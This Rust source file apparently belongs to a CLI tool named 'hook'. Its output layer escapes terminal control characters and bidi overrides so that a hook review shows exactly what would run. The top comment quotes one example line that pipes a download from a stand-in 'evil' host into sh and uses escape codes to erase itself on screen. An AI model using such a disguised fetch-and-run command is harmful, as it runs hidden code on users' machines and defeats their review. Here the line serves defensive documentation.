//! The bottom of everything `hook` prints (the [`Printer`](super::Printer) writes through it): text for a person has its control characters
//! escaped, and a closed stdout ends the command quietly instead of panicking.
//!
//! Why escape: `hook list` is the review before `hook trust`. A command such as
//! `curl evil | sh \x1b[2K\r  [Bash] command ./lint.sh` would otherwise erase itself on a
//! terminal and show only the harmless tail. Every control character (C0, DEL, C1) and every
//! Unicode bidirectional override is shown as an escape (`\x1b`, `\u{202e}`), so what is
//! printed is what would run. Machine output (`--json`, `hook run`'s outcome, schemas, converted
//! configs) is printed exactly: JSON encoders escape control characters themselves.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{self, IsTerminal as _, Write};

/// Whether `c` could move the cursor, erase, recolour or reorder what a terminal shows.
fn is_hidden_control(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// `text` on one line: every control character escaped, line feeds too.
pub(crate) fn one_line(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden_control) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !is_hidden_control(c) {
            escaped.push(c);
            continue;
        }
        // Writing to a String cannot fail.
        let _ = match c {
            '\n' => escaped.write_str("\\n"),
            '\r' => escaped.write_str("\\r"),
            '\t' => escaped.write_str("\\t"),
            c if (c as u32) < 0x100 => write!(escaped, "\\x{:02x}", c as u32),
            c => write!(escaped, "\\u{{{:x}}}", c as u32),
        };
    }
    Cow::Owned(escaped)
}

/// Writes human text and a newline to stdout.
pub(crate) fn print_text(text: &str) {
    print_exact(&format!("{}\n", one_line(text)));
}

/// Writes human text and a newline to stderr. A closed stderr is ignored:
/// there is nowhere left to say anything.
pub(crate) fn eprint_text(text: &str) {
    #[cfg(test)]
    if capture::write(capture::Stream::Stderr, &format!("{}\n", one_line(text))) {
        return;
    }
    let _ = writeln!(io::stderr().lock(), "{}", one_line(text));
}

/// Writes machine output (JSON, a schema, a converted config) to stdout exactly as given.
pub(crate) fn print_exact(text: &str) {
    #[cfg(test)]
    if capture::write(capture::Stream::Stdout, text) {
        return;
    }
    let mut stdout = io::stdout().lock();
    if let Err(error) = stdout
        .write_all(text.as_bytes())
        .and_then(|()| stdout.flush())
    {
        closed_stdout(&error);
    }
}

/// Writes machine output and a newline to stdout exactly.
pub(crate) fn println_exact(text: &str) {
    print_exact(&format!("{text}\n"));
}

/// Whether stdout is a terminal (never while an in-process test keeps what is printed: its
/// stdout is then a string).
pub(crate) fn stdout_is_terminal() -> bool {
    #[cfg(test)]
    if capture::active() {
        return false;
    }
    io::stdout().is_terminal()
}

/// Whether stderr is a terminal (never while an in-process test keeps what is printed).
pub(crate) fn stderr_is_terminal() -> bool {
    #[cfg(test)]
    if capture::active() {
        return false;
    }
    io::stderr().is_terminal()
}

/// Ends stdout: flushes it, then points file descriptor 1 at `/dev/null`, so a reader waiting
/// for the end of our output gets it now while the process goes on (`hook run` with async
/// hooks still running). Later writes to stdout go nowhere.
pub(crate) fn close_stdout() {
    #[cfg(test)]
    if capture::write(capture::Stream::Stdout, "") {
        return;
    }
    let _ = io::stdout().lock().flush();
    #[cfg(unix)]
    if let Ok(null) = std::fs::OpenOptions::new().write(true).open("/dev/null") {
        use std::os::fd::AsRawFd as _;
        // SAFETY: both descriptors are open for the duration of the call; dup2 replaces fd 1
        // atomically and `null` is closed on drop, fd 1 keeping its own reference.
        #[allow(unsafe_code)]
        unsafe {
            libc::dup2(null.as_raw_fd(), libc::STDOUT_FILENO);
        }
    }
}

/// A reader of our output went away (`hook list | head -1`): stop quietly, as other Unix tools
/// do. Any other write error is reported once on stderr.
fn closed_stdout(error: &io::Error) -> ! {
    if error.kind() != io::ErrorKind::BrokenPipe {
        let _ = writeln!(
            io::stderr().lock(),
            "error: cannot write to stdout: {error}"
        );
        std::process::exit(1);
    }
    std::process::exit(0);
}

/// In-process tests: what a command prints on this thread, kept instead of written.
#[cfg(test)]
pub(crate) mod capture {
    use std::cell::RefCell;

    /// Which stream.
    pub(crate) enum Stream {
        Stdout,
        Stderr,
    }

    /// What was printed.
    #[derive(Debug, Default)]
    pub(crate) struct Captured {
        pub(crate) stdout: String,
        pub(crate) stderr: String,
    }

    thread_local! {
        static CAPTURED: RefCell<Option<Captured>> = const { RefCell::new(None) };
    }

    /// Keeps `text` when this thread is capturing; whether it did.
    pub(super) fn write(stream: Stream, text: &str) -> bool {
        CAPTURED.with_borrow_mut(|captured| match captured {
            Some(captured) => {
                match stream {
                    Stream::Stdout => captured.stdout.push_str(text),
                    Stream::Stderr => captured.stderr.push_str(text),
                }
                true
            }
            None => false,
        })
    }

    /// Whether this thread is capturing.
    pub(super) fn active() -> bool {
        CAPTURED.with_borrow(Option::is_some)
    }

    /// Runs `f`, keeping what it prints on this thread.
    pub(crate) fn capture<T>(f: impl FnOnce() -> T) -> (T, Captured) {
        CAPTURED.with_borrow_mut(|captured| *captured = Some(Captured::default()));
        let value = f();
        let captured = CAPTURED.with_borrow_mut(Option::take).unwrap_or_default();
        (value, captured)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_terminal_controls_and_bidi_overrides() {
        let table = [
            ("plain text", "plain text"),
            ("a\x1b[2K\rb", "a\\x1b[2K\\rb"),
            ("two\nlines", "two\\nlines"),
            ("tab\there", "tab\\there"),
            ("del\x7f", "del\\x7f"),
            ("csi\u{9b}31m", "csi\\x9b31m"),
            ("rtl\u{202e}txt", "rtl\\u{202e}txt"),
            ("isolate\u{2066}x", "isolate\\u{2066}x"),
            ("naïve ✓ 日本 a\\b", "naïve ✓ 日本 a\\b"),
        ];
        for (input, line) in table {
            assert_eq!(one_line(input), line, "one_line({input:?})");
        }
    }
}
